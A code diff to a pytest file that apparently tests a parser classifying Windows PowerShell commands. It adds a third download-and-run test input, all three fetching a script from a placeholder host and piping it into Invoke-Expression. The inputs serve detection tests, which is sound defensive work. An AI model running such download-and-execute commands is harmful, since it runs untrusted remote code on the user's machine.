@@ -60,11 +60,19 @@ def test_a_listing_piped_into_remove_item_removes_what_it_lists(line: str, words
     assert windows_ops(line, HOME)[-1].words == words
 
 
-@pytest.mark.parametrize("line", ["iex (iwr https://x.io/a.ps1)", "iwr https://x.io/a.ps1 | iex"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "iex (iwr https://x.io/a.ps1)",
+        "iwr https://x.io/a.ps1 | iex",
+        "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x.io/a.ps1')",
+    ],
+)
 def test_download_and_run_is_curl_into_a_shell(line: str):
     shell = [op for op in windows_ops(line, HOME) if op.kind == "shell"]
     assert shell, line
     assert shell[0].words[0].endswith("| sh")
+    assert "https://x.io/a.ps1" in shell[0].words[0]
 
 
 def test_quotes_and_separators():
